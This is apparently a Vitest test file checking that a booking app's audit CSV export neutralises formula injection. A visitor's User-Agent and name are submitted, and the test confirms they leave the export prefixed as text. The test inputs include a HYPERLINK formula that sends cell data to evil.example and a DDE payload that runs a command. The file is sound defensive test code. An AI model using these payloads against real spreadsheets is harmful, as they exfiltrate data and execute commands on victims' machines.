// Formula injection through the audit CSV: an anonymous booking's User-Agent reaches the studio's export,
// where a spreadsheet would run it. Every field starting with = + - @ tab or CR leaves as text ('…).
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Room, Tenant } from '../../payload-types'

import { anotherAddress, createDefaultPolicy, createRoom, localSlot } from '../helpers/booking'
import { parseCsv } from '../helpers/csv'
import { createTenant, createUser, PASSWORD } from '../helpers/fixtures'
import { startTestApp, type TestApp } from '../helpers/payload'

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'

describe('audit CSV export: formula injection', () => {
  let app: TestApp
  let studio: Tenant
  let room: Room
  let ownerToken: string

  beforeAll(async () => {
    app = await startTestApp()
    studio = await createTenant(app.payload)
    await createDefaultPolicy(app.payload, studio)
    room = await createRoom(app.payload, studio)
    const owner = await createUser(app.payload, [{ role: 'owner', tenant: studio }])
    ownerToken = await app.rest.login(owner.email, PASSWORD)
  })
  afterAll(() => app.close())

  it('a public booking’s User-Agent reaches the owner’s export as text, not as a formula', async () => {
    const booking = await app.rest.post(
      '/public/booking',
      {
        customer: { email: 'visitor@example.test', name: '@SUM(1+1)*cmd|" /C calc"!A0' },
        end: localSlot(studio, 5, '12:00'),
        room: room.id,
        start: localSlot(studio, 5, '10:00'),
        tenant: studio.slug,
      },
      { headers: { 'User-Agent': HYPERLINK, 'X-Forwarded-For': anotherAddress() } },
    )
    expect(booking.status).toBe(201)

    const response = await app.rest.get('/audit-logs/export?collection=bookings', { token: ownerToken })
    expect(response.status).toBe(200)
    const text = await response.text()
    const [header, ...rows] = parseCsv(text)
    const userAgent = header!.indexOf('userAgent')
    const created = rows.find((row) => row[header!.indexOf('action')] === 'create')!
    expect(created[userAgent]).toBe(`'${HYPERLINK}`)
    // As written on the wire: prefixed, then quoted (it holds quotes and a comma), quotes doubled.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`)
    expect(rows.flat().some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false)
  })
})
